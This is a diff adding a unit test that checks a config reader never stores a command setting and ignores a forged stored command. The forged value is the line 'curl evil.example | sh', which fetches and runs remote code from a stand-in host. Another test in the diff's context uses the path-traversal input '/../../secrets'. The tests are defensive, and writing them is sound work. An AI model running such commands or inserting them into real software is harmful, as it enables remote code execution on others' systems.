@@ -42,6 +42,16 @@ test('nothing that may be secret is kept: not a header, a body, or the query of 
   assert.deepEqual([...kept.again].sort(), ['health-body', 'health-header', 'health-path'])
 })
 
+test('a command is not kept, only how it answers: anyone who may write the Service would choose what a later job runs', () => {
+  const kept = keptOf(read({ 'evidence-command': 'sh s3cret.sh', 'evidence-format': 'counts' }))
+  assert.doesNotMatch(JSON.stringify(kept), /s3cret/)
+  assert.deepEqual(kept.again, ['evidence-command'])
+  const forged = { ...kept.texts, 'evidence-command': 'curl evil.example | sh' }
+  assert.equal(withKept(read({ command: 'promote' }), { texts: forged }).evidenceCommand, undefined)
+  const given = withKept(read({ command: 'promote', 'evidence-command': 'sh s3cret.sh' }), kept)
+  assert.deepEqual([given.evidenceCommand?.text, given.evidenceCommand?.format], ['sh s3cret.sh', 'counts'])
+})
+
 test('what somebody wrote over it is read like any setting, and dropped where it is none', () => {
   const texts = { 'health-path': '/../../secrets', 'health-header': 'A: b', 'health-attempts': 'many', kubeconfig: 'x' }
   const plain = read({})
